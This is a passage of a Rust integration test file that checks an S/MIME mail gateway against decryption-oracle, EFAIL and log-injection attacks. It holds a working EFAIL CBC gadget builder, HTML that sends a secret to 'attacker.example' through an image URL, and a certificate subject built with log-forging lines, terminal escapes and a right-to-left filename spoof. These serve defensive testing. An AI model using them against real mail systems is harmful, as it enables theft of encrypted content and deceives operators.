//! The gateway is no decryption oracle: an outsider who re-sends captured
//! S/MIME mail to internal addresses learns nothing about the plaintext.
//! Each test plays the attacker against the real binary, with a scripted
//! mailbox server as `relay.internal` and a separate sink as the outside
//! world (`relay.external`: where DSNs to the outside sender and anything
//! else that leaves would go), and asserts what the attacker can observe
//! (SMTP replies, the outside world, the log) carries nothing that depends
//! on the secret; a positive control shows each test can fail.

mod common;

use std::time::Duration;

use common::client::Client;
use common::pki::{self, P7M};
use common::sink::{Script, Sink};
use common::{wait_until, Gateway, Options};

const SECRET: &str = "Fortroligt: forligstilbud 4,2 mio. kr. i sag 2024-881";
const ATTACKER: &str = "attacker@example.org";

/// A gateway between the mailbox server `mailbox` and the outside world
/// `outside`, with the demo organisation keys.
fn gateway(mailbox: &Sink, outside: &Sink, extra: &str) -> Gateway {
    let mut opts = Options::new(mailbox.addr);
    opts.external_hop = outside.addr;
    opts.extra = format!(
        "{extra}\n{}{}[trust]\nanchors = [\"{}\"]\n",
        pki::identity("org-oces2", &[]),
        pki::identity("org-oces3", &[]),
        pki::demo().join("trust").display(),
    );
    let gw = Gateway::start(opts);
    mailbox.route_bounces("gw.test", gw.addr, outside.addr);
    gw
}

/// The setting that quarantines what cannot be decrypted.
const QUARANTINE: &str = "[smime]\non_undecryptable = \"quarantine\"\n";

/// Sends `message` from the attacker; the reply to ".".
fn send(gw: &Gateway, to: &str, message: &[u8]) -> common::client::Reply {
    let mut c = Client::connect(gw.addr).unwrap();
    c.ehlo().unwrap();
    c.send(ATTACKER, &[to], message).unwrap()
}

/// The captured ciphertext: `inner` encrypted to the organisation's OCES3
/// key with `cipher`.
fn captured(inner: &[u8], cipher: &str) -> Vec<u8> {
    pki::cms_encrypt(inner, "org-oces3", &[cipher])
}

/// `cms` as the whole body of a message with Message-ID `<id@test>`.
fn enveloped(id: &str, to: &str, cms: &[u8]) -> Vec<u8> {
    pki::enveloped_message(id, to, cms, P7M)
}

/// `cms` wrapped in a detached signature by a self-made certificate that
/// chains to nothing the gateway trusts.
fn wrapped_in_untrusted_signature(id: &str, to: &str, cms: &[u8]) -> Vec<u8> {
    let m = enveloped(id, to, cms);
    let start = m
        .windows(13)
        .position(|w| w == b"Content-Type:")
        .expect("entity");
    let signed = pki::crlf(&pki::cms_sign(&m[start..], "stranger"));
    let mut out = format!(
        "From: Sender <{ATTACKER}>\r\nTo: <{to}>\r\nSubject: signed {id}\r\nMessage-ID: <{id}@test>\r\n"
    )
    .into_bytes();
    out.extend_from_slice(&signed);
    out
}

/// `cms` as an `application/octet-stream` body with Content-Type `name`
/// and Content-Disposition `filename`.
fn octet_named(id: &str, to: &str, cms: &[u8], name: &str, filename: &str) -> Vec<u8> {
    let m = String::from_utf8(pki::enveloped_message(
        id,
        to,
        cms,
        "application/octet-stream",
    ))
    .expect("ascii");
    m.replacen("name=\"smime.p7m\"\r\n", &format!("name=\"{name}\"\r\n"), 1)
        .replace(
            "filename=\"smime.p7m\"",
            &format!("filename=\"{filename}\""),
        )
        .into_bytes()
}

fn contains(hay: &[u8], needle: &str) -> bool {
    hay.windows(needle.len()).any(|w| w == needle.as_bytes())
}

#[test]
fn bounces_of_decrypted_mail_never_reach_the_outside_sender() {
    let mut script = Script::default();
    script.rcpt_replies.insert(
        "gone@example-law.dk".into(),
        "550 5.1.1 <gone@example-law.dk>: Recipient address rejected: no such user".into(),
    );
    script.data_replies_for.insert(
        "refused@example-law.dk".into(),
        "554 5.7.1 <refused@example-law.dk>: mailbox disabled".into(),
    );
    script
        .bounce_after_accept
        .push("full@example-law.dk".into());
    let mailbox = Sink::start(script);
    let outside = Sink::start(Script::default());
    let gw = gateway(&mailbox, &outside, "");

    let inner = pki::inner(SECRET);
    let cms = captured(&inner, "-aes-256-cbc");
    let mut ids = Vec::new();
    for to in ["gone", "refused", "full"] {
        let addr = format!("{to}@example-law.dk");
        for (kind, m) in [
            ("bare", enveloped(&format!("{to}-bare"), &addr, &cms)),
            (
                "signed",
                wrapped_in_untrusted_signature(&format!("{to}-signed"), &addr, &cms),
            ),
            // Forms of the same ciphertext unwrap opens too: an
            // octet-stream named `.p7c`, and one whose Content-Type name
            // says `.p7m` while its filename says something else.
            (
                "p7c",
                octet_named(&format!("{to}-p7c"), &addr, &cms, "smime.p7c", "smime.p7c"),
            ),
            (
                "named",
                octet_named(&format!("{to}-named"), &addr, &cms, "smime.p7m", "scan.pdf"),
            ),
        ] {
            let r = send(&gw, &addr, &m);
            assert_eq!(r.code, 250, "{to} {kind}: {r:?}");
            ids.push(format!("{to}-{kind}"));
        }
    }
    // Positive controls: the plaintext reaches a working mailbox, and a
    // plain message's bounce does reach the outside (the capture works).
    assert_eq!(
        send(
            &gw,
            "bob@example-law.dk",
            &enveloped("bob-ok", "bob@example-law.dk", &cms)
        )
        .code,
        250
    );
    assert_eq!(
        send(
            &gw,
            "gone@example-law.dk",
            &common::message("plain-ctl", "nothing secret")
        )
        .code,
        250
    );

    // Eight refusals reported by the gateway and four returned bounces, all
    // to the postmaster; the control's DSN to the outside.
    let to_postmaster = || {
        mailbox
            .received()
            .into_iter()
            .filter(|r| r.rcpts == ["postmaster@example-law.dk"])
            .collect::<Vec<_>>()
    };
    assert!(
        wait_until(Duration::from_secs(40), || to_postmaster().len() == 12
            && outside.count() >= 1
            && mailbox.bounces().len() == 4),
        "postmaster: {}, outside: {}, bounces: {:?}",
        to_postmaster().len(),
        outside.count(),
        mailbox.bounces()
    );
    assert!(wait_until(Duration::from_secs(20), || gw.queued() == 0));

    // The mailbox server did get the plaintext for the accepted-then-
    // bounced mailbox and for bob, under the gateway's return path.
    for id in [
        "full-bare",
        "full-signed",
        "full-p7c",
        "full-named",
        "bob-ok",
    ] {
        let got = mailbox
            .received()
            .into_iter()
            .find(|r| {
                r.text().contains(&format!("<{id}@test>"))
                    && !r.rcpts.iter().any(|x| x.starts_with("postmaster"))
            })
            .unwrap_or_else(|| panic!("{id} not delivered"));
        assert!(contains(&got.data, SECRET), "{id}: no plaintext delivered");
        assert!(
            got.from.starts_with("smimegw-bounce+") && got.from.ends_with("@gw.test"),
            "{id}: envelope sender {:?}",
            got.from
        );
    }
    // The mailbox server's bounces quoted the plaintext, and went to the
    // gateway (which took them), not to the attacker.
    for b in mailbox.bounces() {
        assert!(
            contains(&b.data, SECRET),
            "the bounce should quote the plaintext"
        );
        assert_eq!(b.via, gw.addr, "bounce to {} went elsewhere", b.to);
        assert!(b.reply.starts_with("250"), "{}", b.reply);
    }

    // What the attacker sees: only the control's bounce; no plaintext.
    let seen = outside.received();
    assert_eq!(seen.len(), 1, "the outside got more than the control's DSN");
    assert!(seen[0].rcpts == [ATTACKER] && seen[0].text().contains("plain-ctl@test"));
    for r in &seen {
        assert!(!contains(&r.data, SECRET), "plaintext reached the outside");
    }
    for id in &ids {
        assert!(
            !seen
                .iter()
                .any(|r| r.text().contains(&format!("{id}@test"))),
            "the outside heard about {id}"
        );
    }
    // The postmaster learns which mailbox failed, without the content.
    let notices: Vec<_> = to_postmaster()
        .into_iter()
        .filter(|r| r.text().contains("returned by the mailbox server"))
        .collect();
    assert_eq!(notices.len(), 4);
    for n in &notices {
        assert!(
            n.text().contains("Recipient: full@example-law.dk"),
            "{}",
            n.text()
        );
        assert!(!contains(&n.data, SECRET));
    }
    assert!(!gw.log().contains(SECRET));
    assert!(gw.log().contains("event=\"returned\""));
}

/// The reply to "." without the queue id.
fn reply_shape(r: &common::client::Reply) -> String {
    match r.text.split_once("queued as") {
        Some((head, _)) => head.to_string(),
        None => r.text.clone(),
    }
}

#[test]
fn quarantine_mode_shows_no_difference_between_intact_and_padding_corrupted_ciphertext() {
    let mut script = Script::default();
    script.rcpt_replies.insert(
        "gone@example-law.dk".into(),
        "550 5.1.1 <gone@example-law.dk>: no such user".into(),
    );
    let mailbox = Sink::start(script);
    let outside = Sink::start(Script::default());
    let gw = gateway(&mailbox, &outside, QUARANTINE);
    let cms = captured(&pki::inner(SECRET), "-aes-256-cbc");
    // The last plaintext byte is the padding length: flipping the top bit
    // of the byte above it in the previous ciphertext block makes the
    // padding wrong, always.
    let mut corrupt = cms.clone();
    let at = corrupt.len() - 17;
    corrupt[at] ^= 0x80;

    let mut replies = Vec::new();
    for to in ["bob", "gone"] {
        let addr = format!("{to}@example-law.dk");
        for (kind, c) in [("intact", &cms), ("corrupt", &corrupt)] {
            for (wrap, m) in [
                ("bare", enveloped(&format!("{to}-{kind}-bare"), &addr, c)),
                (
                    "signed",
                    wrapped_in_untrusted_signature(&format!("{to}-{kind}-signed"), &addr, c),
                ),
            ] {
                let r = send(&gw, &addr, &m);
                replies.push((format!("{to}-{kind}-{wrap}"), r));
            }
        }
    }
    assert_eq!(
        send(
            &gw,
            "gone@example-law.dk",
            &common::message("plain-ctl", "nothing")
        )
        .code,
        250
    );

    // Inside, the two differ: intact mail is opened (delivered to bob, or
    // refused for gone and reported to the postmaster), corrupt mail is
    // quarantined.
    assert!(
        wait_until(Duration::from_secs(40), || {
            let log = gw.log();
            log.matches("event=\"quarantined\"").count() == 4
                && mailbox
                    .received()
                    .iter()
                    .filter(|r| r.rcpts == ["postmaster@example-law.dk"])
                    .count()
                    == 2
                && outside.count() == 1
        }),
        "log:\n{}",
        gw.log()
    );
    assert!(wait_until(Duration::from_secs(20), || gw.queued() == 0));
    for wrap in ["bare", "signed"] {
        let id = format!("bob-intact-{wrap}@test");
        assert!(
            mailbox
                .received()
                .iter()
                .any(|r| r.text().contains(&id) && contains(&r.data, SECRET)),
            "{id} not delivered decrypted"
        );
        assert!(
            !mailbox
                .received()
                .iter()
                .any(|r| r.text().contains(&format!("bob-corrupt-{wrap}@test"))),
            "corrupt mail should be quarantined"
        );
    }
    // Outside, they are the same: one reply, no DSN for any of them.
    let first = reply_shape(&replies[0].1);
    for (id, r) in &replies {
        assert_eq!(r.code, 250, "{id}: {r:?}");
        assert_eq!(reply_shape(r), first, "{id}: reply differs");
    }
    let seen = outside.received();
    assert_eq!(seen.len(), 1, "only the control's DSN may leave");
    assert!(seen[0].text().contains("plain-ctl@test"));
}

/// A DER node: tag, and either content bytes or children.
enum Der {
    Prim(u8, Vec<u8>),
    Cons(u8, Vec<Der>),
}

fn der_parse(mut b: &[u8]) -> Vec<Der> {
    let mut out = Vec::new();
    while !b.is_empty() {
        let tag = b[0];
        let (len, hdr) = match b[1] {
            l if l < 0x80 => (l as usize, 2),
            l => {
                let n = (l & 0x7f) as usize;
                let len = b[2..2 + n]
                    .iter()
                    .fold(0usize, |a, x| (a << 8) | *x as usize);
                (len, 2 + n)
            }
        };
        let content = &b[hdr..hdr + len];
        out.push(if tag & 0x20 != 0 {
            Der::Cons(tag, der_parse(content))
        } else {
            Der::Prim(tag, content.to_vec())
        });
        b = &b[hdr + len..];
    }
    out
}

fn der_write(node: &Der, out: &mut Vec<u8>) {
    let (tag, content) = match node {
        Der::Prim(t, c) => (*t, c.clone()),
        Der::Cons(t, kids) => {
            let mut c = Vec::new();
            for k in kids {
                der_write(k, &mut c);
            }
            (*t, c)
        }
    };
    out.push(tag);
    let len = content.len();
    if len < 0x80 {
        out.push(len as u8);
    } else {
        let bytes: Vec<u8> = len
            .to_be_bytes()
            .into_iter()
            .skip_while(|b| *b == 0)
            .collect();
        out.push(0x80 | bytes.len() as u8);
        out.extend_from_slice(&bytes);
    }
    out.extend_from_slice(&content);
}

fn kids(node: &mut Der) -> &mut Vec<Der> {
    match node {
        Der::Cons(_, k) => k,
        Der::Prim(..) => panic!("not constructed"),
    }
}

/// The EFAIL CBC gadget: with the first plaintext block `known`, the
/// ciphertext C0 C1 C2 … becomes C0 C1 C2 X C0 C1 C2 …, where X makes the
/// second C0 decrypt to `chosen`; everything after it decrypts as the
/// original from its second block on. What the mailbox would see:
/// P0 P1 P2 <garbage> chosen P1 P2 P3 …
fn cbc_gadget(der: &[u8], known: &[u8; 16], chosen: &[u8; 16]) -> Vec<u8> {
    let mut top = der_parse(der).remove(0);
    let enveloped = &mut kids(&mut kids(&mut top)[1])[0];
    let eci = kids(enveloped).last_mut().expect("EncryptedContentInfo");
    let parts = kids(eci);
    let iv = match &kids(&mut parts[1])[1] {
        Der::Prim(0x04, iv) => iv.clone(),
        _ => panic!("no IV"),
    };
    let Der::Prim(0x80, ct) = &mut parts[2] else {
        panic!("no primitive encrypted content")
    };
    let x: Vec<u8> = (0..16).map(|i| known[i] ^ iv[i] ^ chosen[i]).collect();
    let mut out = ct[..48].to_vec();
    out.extend_from_slice(&x);
    out.extend_from_slice(&ct[..16]);
    out.extend_from_slice(&ct[16..]);
    *ct = out;
    let mut bytes = Vec::new();
    der_write(&top, &mut bytes);
    bytes
}

/// Every attribute value of every element of `html`, as an HTML5
/// tokenizer reads them.
fn attribute_values(html: &str) -> Vec<String> {
    let values = std::cell::RefCell::new(Vec::new());
    lol_html::rewrite_str(
        html,
        lol_html::RewriteStrSettings::new().append_element_content_handler(lol_html::element!(
            "*",
            |el| {
                for a in el.attributes() {
                    values
                        .borrow_mut()
                        .push(format!("{}={}", a.name(), a.value()));
                }
                Ok(())
            }
        )),
    )
    .unwrap();
    values.into_inner()
}

fn delivered(mailbox: &Sink, id: &str) -> common::sink::Received {
    let needle = format!("<{id}@test>");
    assert!(
        wait_until(Duration::from_secs(30), || mailbox
            .received()
            .iter()
            .any(|r| r.text().contains(&needle))),
        "{id} not delivered"
    );
    mailbox
        .received()
        .into_iter()
        .find(|r| r.text().contains(&needle))
        .unwrap()
}

fn trace(text: &str) -> String {
    let unfolded = text.replace("\r\n ", " ").replace("\r\n\t", " ");
    unfolded
        .lines()
        .find_map(|l| l.strip_prefix("X-SMIME-Gateway: "))
        .unwrap_or("")
        .to_string()
}

fn html_of(data: &[u8]) -> String {
    mail_parser::MessageParser::default()
        .parse(data)
        .and_then(|m| m.body_html(0).map(|h| h.into_owned()))
        .unwrap_or_default()
}

/// The victim's HTML reached the mailbox with no remote reference left
/// live (`where_`: added to the failure message).
fn assert_delivered_inert(got: &common::sink::Received, where_: &str) {
    let html = html_of(&got.data);
    assert!(html.contains("Med venlig hilsen"), "{html}");
    let values = attribute_values(&html);
    assert!(
        !values.iter().any(|v| v.contains("//")),
        "a remote reference is live{where_}: {values:?}\n{html}"
    );
}

#[test]
fn efail_gadget_in_cbc_mail_is_not_live_in_the_mailbox() {
    let mailbox = Sink::start(Script::default());
    let outside = Sink::start(Script::default());
    let gw = gateway(&mailbox, &outside, "");

    // The victim's HTML mail, encrypted with AES-CBC to the organisation.
    let victim = format!(
        "Content-Type: text/html; charset=utf-8\r\n\r\n<!--xx-->\r\n<html><body><p>{SECRET}</p>\
         <p class=\"sig\">Med venlig hilsen</p></body></html>\r\n"
    );
    assert_eq!(&victim.as_bytes()[32..48], b"=utf-8\r\n\r\n<!--xx");
    let cms = captured(victim.as_bytes(), "-aes-256-cbc");
    let known: [u8; 16] = victim.as_bytes()[..16].try_into().unwrap();
    let malleated = cbc_gadget(&cms, &known, b"--><img src=\"//a");

    // The gadget works: decrypted as is, the HTML sends the secret to a
    // remote host.
    let naive = pki::openssl(
        &[
            "cms",
            "-decrypt",
            "-inform",
            "DER",
            "-inkey",
            pki::key("org-oces3").to_str().unwrap(),
            "-recip",
            pki::cert("org-oces3").to_str().unwrap(),
        ],
        &malleated,
    );
    let naive = String::from_utf8_lossy(&naive).into_owned();
    let remote: Vec<String> = attribute_values(&naive)
        .into_iter()
        .filter(|v| v.starts_with("src=//a"))
        .collect();
    assert!(
        remote.iter().any(|v| v.contains(SECRET)),
        "the gadget did not work: {naive:?}"
    );

    assert_eq!(
        send(
            &gw,
            "bob@example-law.dk",
            &enveloped("efail-1", "bob@example-law.dk", &malleated)
        )
        .code,
        250
    );
    // Control: AES-GCM (authenticated) HTML with a remote image passes as is.
    let gcm_html = "Content-Type: text/html; charset=utf-8\r\n\r\n<p>Logo: <img src=\"https://example.org/logo.png\"></p>\r\n";
    let gcm = pki::cms_encrypt_gcm(gcm_html.as_bytes(), "org-oces3");
    assert_eq!(
        send(
            &gw,
            "bob@example-law.dk",
            &pki::enveloped_message(
                "gcm-1",
                "bob@example-law.dk",
                &gcm,
                "application/pkcs7-mime; smime-type=authEnveloped-data"
            )
        )
        .code,
        250
    );
    // The same captured CBC, malleated, inside an AES-GCM layer the
    // attacker made to the organisation's public certificate: the scan
    // sees only the authenticated outer layer.
    let inner = enveloped("efail-inner", "bob@example-law.dk", &malleated);
    let wrapped = pki::cms_encrypt_gcm(&inner, "org-oces3");
    assert_eq!(
        send(
            &gw,
            "bob@example-law.dk",
            &pki::enveloped_message(
                "efail-gcm",
                "bob@example-law.dk",
                &wrapped,
                "application/pkcs7-mime; smime-type=authEnveloped-data"
            )
        )
        .code,
        250
    );
    // Control: CBC content under a valid inner signature passes as is.
    let signed = pki::crlf(&pki::cms_sign(gcm_html.as_bytes(), "alice-oces3"));
    let signed_cbc = captured(&signed, "-aes-256-cbc");
    assert_eq!(
        send(
            &gw,
            "bob@example-law.dk",
            &enveloped("signed-cbc", "bob@example-law.dk", &signed_cbc)
        )
        .code,
        250
    );

    let got = delivered(&mailbox, "efail-1");
    let text = got.text();
    let t = trace(&text);
    assert!(
        t.contains("integrity=none") && t.contains("html=neutralised"),
        "{t}"
    );
    // The mailbox still gets the mail (the planted URL, secret and all,
    // is gone with the attribute that held it).
    assert_delivered_inert(&got, "");

    // Both layers were taken off; the inner one had no integrity.
    let got = delivered(&mailbox, "efail-gcm");
    let t = trace(&got.text());
    assert!(
        t.matches("decrypted").count() == 2
            && t.contains("integrity=none")
            && t.contains("html=neutralised"),
        "{t}"
    );
    assert_delivered_inert(&got, " under the GCM layer");

    let got = delivered(&mailbox, "gcm-1");
    assert!(!trace(&got.text()).contains("integrity"), "{}", got.text());
    assert!(html_of(&got.data).contains("<img src=\"https://example.org/logo.png\">"));

    let got = delivered(&mailbox, "signed-cbc");
    let t = trace(&got.text());
    assert!(
        t.contains("signature[1]=") && !t.contains("over=ciphertext") && !t.contains("integrity"),
        "{t}"
    );
    assert!(got.text().contains("https://example.org/logo.png"));
    assert_eq!(outside.count(), 0);
}

/// A self-signed certificate whose subject has CR/LF and terminal escape
/// sequences in its CN and fifty 60-character OUs (over 3,000 characters
/// of DN): (key, cert) paths in `dir`.
fn hostile_certificate(dir: &std::path::Path) -> (std::path::PathBuf, std::path::PathBuf) {
    let mut subject =
        "/CN=Evil\r\nFORGED-LINE event=\"delivered\"\u{1b}[2J\u{1b}]0;pwned\u{7}\u{202e}FDP.exe\u{3164}"
            .to_string();
    for i in 0..50 {
        subject.push_str(&format!("/OU={i:02}{}", "o".repeat(58)));
    }
    let (key, cert) = (dir.join("evil.key"), dir.join("evil.crt"));
    pki::run(
        "openssl",
        &[
            "req",
            "-x509",
            "-newkey",
            "rsa:2048",
            "-nodes",
            "-days",
            "30",
            "-keyout",
            key.to_str().unwrap(),
            "-out",
            cert.to_str().unwrap(),
            "-subj",
            &subject,
        ],
        b"",
    );
    (key, cert)
}

fn assert_no_raw_controls(what: &str, text: &str) {
    assert!(
        !text.chars().any(|c| c.is_control() && c != '\n'),
        "{what} has raw control characters: {text:?}"
    );
    // Nor one that turns text around on a terminal (a right-to-left
    // override makes "exe.PDF" read "FDP.exe").
    assert!(
        !text.contains(['\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}']),
        "{what} has raw bidirectional controls: {text:?}"
    );
    // Nor one that shows as nothing (a tag character, a blank letter).
    assert!(
        !text.contains(['\u{e0041}', '\u{3164}']),
        "{what} has raw invisible characters: {text:?}"
    );
}

#[test]
fn hostile_names_forge_no_log_line_reach_no_terminal_and_stay_within_line_limits() {
    let tmp = tempfile::tempdir().unwrap();
    let (key, cert) = hostile_certificate(tmp.path());
    let inner = pki::inner("hello");
    let to_evil = pki::openssl(
        &[
            "cms",
            "-encrypt",
            "-binary",
            "-outform",
            "DER",
            "-aes-256-cbc",
            cert.to_str().unwrap(),
        ],
        &inner,
    );
    let signed_by_evil = pki::crlf(&pki::openssl(
        &[
            "cms",
            "-sign",
            "-binary",
            "-signer",
            cert.to_str().unwrap(),
            "-inkey",
            key.to_str().unwrap(),
        ],
        &inner,
    ));
    let signed = |id: &str| {
        let mut m = format!(
            "From: <{ATTACKER}>\r\nTo: <bob@example-law.dk>\r\nSubject: signed\r\nMessage-ID: <{id}@test>\r\n"
        )
        .into_bytes();
        m.extend_from_slice(&signed_by_evil);
        m
    };
    let mut script = Script::default();
    script
        .rcpt_replies
        .insert("held@example-law.dk".into(), "450 4.2.0 try later".into());

    // Text log, quarantine mode.
    let mailbox = Sink::start(script);
    let outside = Sink::start(Script::default());
    let gw = gateway(&mailbox, &outside, QUARANTINE);
    assert_eq!(
        send(
            &gw,
            "bob@example-law.dk",
            &enveloped("evil-q", "bob@example-law.dk", &to_evil)
        )
        .code,
        250
    );
    assert_eq!(send(&gw, "bob@example-law.dk", &signed("evil-s")).code, 250);
    let mut held = common::message("evil-held", "held").to_vec();
    held.splice(
        0..0,
        b"Subject: \x1b[31mred\x1b]0;title\x07\r\n".iter().copied(),
    );
    assert_eq!(send(&gw, "held@example-law.dk", &held).code, 250);
    assert!(
        wait_until(Duration::from_secs(30), || {
            let log = gw.log();
            log.contains("event=\"quarantined\"")
                && log.contains("signature[1]=untrusted")
                && log.contains("event=\"deferred\"")
        }),
        "{}",
        gw.log()
    );
    let log = gw.log();
    // The hostile name was logged (the test can fail) ...
    assert!(log.contains("FORGED-LINE") && log.contains("FDP.exe"));
    // ... but every line is one event, nothing raw.
    assert_no_raw_controls("text log", &log);
    for line in log.lines() {
        assert!(
            line.len() > 20
                && line.as_bytes()[..4].iter().all(u8::is_ascii_digit)
                && &line[4..5] == "-",
            "a log line that is not an event: {line:?}"
        );
    }
    let out = gw.cli(&["queue", "quarantined"]);
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(text.contains("FORGED-LINE"), "{text}");
    assert_no_raw_controls("queue quarantined", &text);
    assert_eq!(
        text.lines().count(),
        2,
        "one line per message, then the count: {text}"
    );
    // The signed message may still be finishing its attempt: wait until
    // only the held one is left.
    let list = || String::from_utf8_lossy(&gw.cli(&["queue", "list"]).stdout).into_owned();
    assert!(
        wait_until(Duration::from_secs(30), || list()
            .contains("\n1 message(s) in the queue")),
        "{}",
        list()
    );
    let id = list()
        .lines()
        .nth(1)
        .and_then(|l| l.split_whitespace().next())
        .expect("queued")
        .to_string();
    let out = gw.cli(&["queue", "show", &id]);
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(text.contains("\\x1b[31mred"), "{text}");
    assert_no_raw_controls("queue show", &text);

    // JSON log, delivered with the reason.
    let mailbox = Sink::start(Script::default());
    let outside = Sink::start(Script::default());
    let mut opts = Options::new(mailbox.addr);
    opts.external_hop = outside.addr;
    opts.args = vec!["--log-format".into(), "json".into()];
    opts.extra = format!(
        "{}[trust]\nanchors = [\"{}\"]\n",
        pki::identity("org-oces3", &[]),
        pki::demo().join("trust").display()
    );
    let gw = Gateway::start(opts);
    assert_eq!(
        send(
            &gw,
            "bob@example-law.dk",
            &enveloped("evil-d", "bob@example-law.dk", &to_evil)
        )
        .code,
        250
    );
    assert_eq!(
        send(&gw, "bob@example-law.dk", &signed("evil-s2")).code,
        250
    );
    let undecryptable = delivered(&mailbox, "evil-d");
    let signed = delivered(&mailbox, "evil-s2");
    let log = gw.log();
    assert!(log.contains("FORGED-LINE"));
    assert_no_raw_controls("JSON log", &log);
    for line in log.lines() {
        serde_json::from_str::<serde_json::Value>(line)
            .unwrap_or_else(|e| panic!("not one JSON event ({e}): {line:?}"));
    }
    for (got, expect) in [(undecryptable, "...[truncated]\""), (signed, "FORGED-LINE")] {
        let text = got.text();
        let head = text.split("\r\n\r\n").next().unwrap();
        let t = trace(&text);
        assert!(t.contains(expect), "{t}");
        assert_no_raw_controls("header", &head.replace("\r\n", "\n"));
        for line in head.split("\r\n") {
            assert!(line.len() <= 998, "header line of {} octets", line.len());
            assert!(!line.starts_with("FORGED"), "forged header line: {line}");
        }
        // The trace header is folded to 78 (its words are short enough).
        let mut in_trace = false;
        for line in head.split("\r\n") {
            if line.starts_with("X-SMIME-Gateway:") {
                in_trace = true;
            } else if !line.starts_with(' ') {
                in_trace = false;
            }
            if in_trace {
                assert!(line.len() <= 78, "trace line of {}: {line}", line.len());
            }
        }
    }
}

#[test]
fn a_key_opens_only_the_mail_decrypt_for_allows() {
    let mailbox = Sink::start(Script::default());
    let outside = Sink::start(Script::default());
    let mut opts = Options::new(mailbox.addr);
    opts.external_hop = outside.addr;
    // The organisation key (still the organisation's: no mailboxes) opens
    // only the shared mailbox's mail.
    opts.extra = format!(
        "{}decrypt_for = [\"sikkermail@example-law.dk\"]\n[trust]\nanchors = [\"{}\"]\n\
         [smime]\non_undecryptable = \"quarantine\"\n",
        pki::identity("org-oces3", &[]),
        pki::demo().join("trust").display(),
    );
    let gw = Gateway::start(opts);
    let cms = captured(&pki::inner(SECRET), "-aes-256-cbc");
    for to in ["bob", "sikkermail"] {
        let addr = format!("{to}@example-law.dk");
        assert_eq!(
            send(&gw, &addr, &enveloped(&format!("df-{to}"), &addr, &cms)).code,
            250
        );
    }
    let shared = delivered(&mailbox, "df-sikkermail");
    assert!(
        contains(&shared.data, SECRET),
        "the allowed mailbox gets it decrypted"
    );
    let bob = delivered(&mailbox, "df-bob");
    assert!(
        !contains(&bob.data, SECRET),
        "bob's mail must not be opened"
    );
    let t = trace(&bob.text());
    assert!(
        t.starts_with("undecryptable;")
            && t.contains("may not decrypt mail for bob@example-law.dk"),
        "{t}"
    );
    let original = enveloped("df-bob", "bob@example-law.dk", &cms);
    let (_, body) = bob
        .text()
        .split_once("\r\n\r\n")
        .map(|(h, b)| (h.to_string(), b.to_string()))
        .unwrap();
    assert!(
        String::from_utf8_lossy(&original).ends_with(&body),
        "passed unchanged"
    );
    assert_eq!(outside.count(), 0);
}

#[test]
fn the_return_path_takes_bounces_from_untrusted_mailbox_servers_and_relays_nothing() {
    let mailbox = Sink::start(Script::default());
    let outside = Sink::start(Script::default());
    let mut opts = Options::new(mailbox.addr);
    opts.external_hop = outside.addr;
    opts.trusted = false;
    let gw = Gateway::start(opts);
    let dsn = format!(
        "From: MAILER-DAEMON@mx.test\r\nTo: <smimegw-bounce+0661ABC@gw.test>\r\nSubject: Undelivered\r\n\
         MIME-Version: 1.0\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=\"R\"\r\n\r\n\
         --R\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.test\r\n\r\n\
         Final-Recipient: rfc822; full@example-law.dk\r\nAction: failed\r\nStatus: 5.2.2\r\n\r\n\
         --R\r\nContent-Type: message/rfc822\r\n\r\nSubject: x\r\n\r\n{SECRET}\r\n--R--\r\n"
    );
    let mut c = Client::connect(gw.addr).unwrap();
    c.ehlo().unwrap();
    let r = c
        .send("", &["smimegw-bounce+0661ABC@gw.test"], dsn.as_bytes())
        .unwrap();
    assert_eq!(r.code, 250, "{r:?}");
    // Control: the same client may not relay to an outside address.
    let r = c.cmd("MAIL FROM:<>").unwrap();
    assert_eq!(r.code, 250);
    let r = c.cmd("RCPT TO:<someone@example.org>").unwrap();
    assert_eq!(r.code, 554, "{r:?}");
    assert!(
        wait_until(Duration::from_secs(20), || mailbox.count() == 1),
        "no postmaster notice"
    );
    let notice = &mailbox.received()[0];
    assert_eq!(notice.rcpts, ["postmaster@example-law.dk"]);
    assert!(notice.text().contains("Recipient: full@example-law.dk"));
    assert!(notice.text().contains("0661ABC"));
    assert!(!contains(&notice.data, SECRET));
    assert_eq!(outside.count(), 0);
}

/// Decrypted HTML without integrity that mail-parser and a mail client
/// read differently: a broken transfer encoding (mail-parser then reads
/// the part as plain text), a multipart never closed (a captured one cut
/// short by a gadget), a Content-Type written twice (mail-parser takes the
/// last, clients the first), a `Date: … Z` field that makes mail-parser
/// swallow the Content-Type after it, and HTML deeper than the defence
/// follows attached messages. Attacker: an outside sender with CBC
/// content to the organisation's certificate (made or malleated). None
/// may reach the mailbox opened with the remote reference live: each is
/// delivered as it came, with the reason. Control: the same HTML, read
/// one way, arrives opened with the reference removed.
#[test]
fn html_that_reads_two_ways_is_not_opened_without_integrity() {
    let mailbox = Sink::start(Script::default());
    let outside = Sink::start(Script::default());
    let gw = gateway(&mailbox, &outside, "");
    let html = format!("<img src=\"//attacker.example/leak?\">{SECRET}");
    let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, html.as_bytes());
    let mut deep = format!("Content-Type: text/html\r\n\r\n{html}\r\n");
    for _ in 0..5 {
        deep = format!("Content-Type: message/rfc822\r\n\r\n{deep}");
    }
    let cases = [
        (
            "qp",
            format!(
                "Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n\
                 {}==\r\n",
                html.replace('=', "=3D")
            ),
        ),
        (
            "b64",
            format!(
                "Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n{b64}!\r\n"
            ),
        ),
        (
            "unclosed",
            format!(
                "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n\
                 Content-Type: text/html\r\n\r\n{html}\r\n"
            ),
        ),
        (
            "twice",
            format!("Content-Type: text/html\r\nContent-Type: text/plain\r\n\r\n{html}\r\n"),
        ),
        (
            "zone",
            format!(
                "Resent-Date: Mon, 30 Nov 2026 12:00:00 Z\r\nContent-Type: text/html\r\n\r\n\
                 {html}\r\n"
            ),
        ),
        ("deep", deep),
        // The boundary read two ways: mail-parser splits at `--b`, a
        // client at the literal value (an encoded word, the first word of
        // an unquoted value, continuations up to a gap).
        (
            "boundary-encoded",
            split_two_ways("=\"=?us-ascii?q?b?=\"", "b", "=?us-ascii?q?b?=", &html),
        ),
